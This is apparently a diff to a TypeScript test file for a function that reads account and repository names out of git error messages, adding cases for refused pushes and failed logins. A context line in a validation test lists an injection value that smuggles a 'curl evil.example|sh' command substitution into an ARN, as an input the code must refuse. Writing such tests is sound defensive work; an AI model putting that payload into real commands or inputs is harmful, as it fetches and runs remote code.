@@ -83,6 +83,23 @@ describe('values read from a message', () => {
 		});
 	});
 
+	test('git names the repository, and on a refused push the account', () => {
+		expect(
+			readError(
+				"remote: Permission to acme/api.git denied to jdoe.\nfatal: unable to access 'https://github.com/acme/api.git/': The requested URL returned error: 403"
+			).values
+		).toEqual({ principal: 'jdoe', repository: 'acme/api' });
+		expect(
+			readError(
+				"fatal: Authentication failed for 'https://jdoe@git.example.com/acme/web.site.git/'"
+			).values
+		).toEqual({ repository: 'acme/web.site' });
+		// A remote that is no `owner/name` path gives nothing to fill.
+		expect(
+			readError("fatal: unable to access 'https://git.example.com/api.git/': error 403").values
+		).toEqual({});
+	});
+
 	test('values that would need quoting in a command or a JSON string are refused', () => {
 		for (const value of [
 			'arn:aws:iam::123456789012:user/$(curl evil.example|sh)',
@@ -213,6 +230,7 @@ function otherValue(name: SlotName, example: string): string {
 		resourceGroup: 'reader-rg',
 		objectId: '66666666-7777-8888-9999-000000000000',
 		namespace: 'reader-ns',
+		repository: 'reader-org/reader-repo',
 	};
 	return values[name];
 }
